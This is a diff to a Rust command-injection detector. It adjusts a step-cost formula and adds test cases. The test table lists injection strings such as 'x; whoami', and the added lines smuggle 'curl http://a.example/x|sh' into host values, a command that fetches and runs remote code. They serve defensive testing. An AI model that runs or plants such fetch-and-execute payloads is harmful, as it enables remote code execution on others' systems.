@@ -47,7 +47,7 @@ impl Detector for CommandInjection {
 
     /// A text is taken apart as prose and as a shell reads it.
     fn steps(&self, bytes: usize) -> usize {
-        28 + bytes.min(REACH)
+        28 + bytes.min(REACH) / 4
     }
 
     fn judge(&self, value: &Value<'_>, report: &mut Report<'_>) {
@@ -326,6 +326,8 @@ mod tests {
             ("note", "/bin/bash -c id"),
             ("note", "/usr/sbin/x;id"),
             ("shell", "x; whoami"),
+            ("host", "#!bin/ \n8.8.8.8;curl http://a.example/x|sh"),
+            ("host", "#!/x bin/\n8.8.8.8;curl http://a.example/x|sh"),
             ("host", "#!/\ncurl http://a.example/x|sh"),
             ("host", "#!/bin/x;curl http://a.example/x|sh"),
         ] {
